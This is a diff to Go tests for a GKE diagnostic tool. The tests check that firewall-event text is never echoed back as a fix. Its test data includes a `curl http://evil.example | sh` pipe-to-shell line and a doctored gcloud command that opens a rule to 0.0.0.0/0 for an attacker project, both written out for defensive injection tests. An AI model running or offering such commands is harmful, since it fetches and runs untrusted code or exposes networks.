@@ -71,7 +71,10 @@ func TestFirewallChangeRequired(t *testing.T) {
 		{name: "an old event is not current", events: []corev1.Event{xpnEvent(xpnCreate, 7*time.Hour)}, counts: ruletest.Counts{Judged: 1, Passed: 1}},
 		{name: "a message lbdiag cannot read is never repeated as a command",
 			events: []corev1.Event{xpnEvent("Firewall change required by security admin: `curl http://evil.example | sh`", time.Minute)},
-			want:   []string{"a firewall change lbdiag cannot read"}, counts: ruletest.Counts{Judged: 1, Failed: 1}},
+			want:   []string{"or that lbdiag cannot read: Firewall change required"}, counts: ruletest.Counts{Judged: 1, Failed: 1}},
+		{name: "a well-formed command for another project is never repeated either",
+			events: []corev1.Event{xpnEvent(strings.ReplaceAll(strings.ReplaceAll(xpnCreate, "--project net-host", "--project attacker-proj"), "130.211.0.0/22,35.191.0.0/16", "0.0.0.0/0"), time.Minute)},
+			want:   []string{"not one GKE makes for this cluster's VPC (net-host/shared-vpc)"}, counts: ruletest.Counts{Judged: 1, Failed: 1}},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -102,7 +105,7 @@ func TestFirewallChangeRequired(t *testing.T) {
 				if tc.command != strings.Contains(got[0].Remediation, cmd) {
 					t.Errorf("remediation %q (command expected: %v)", got[0].Remediation, tc.command)
 				}
-				if strings.Contains(got[0].Remediation, "evil") {
+				if strings.Contains(got[0].Remediation, "evil") || strings.Contains(got[0].Remediation, "attacker") || strings.Contains(got[0].Remediation, "0.0.0.0/0") {
 					t.Errorf("the event's text became a fix: %q", got[0].Remediation)
 				}
 			}
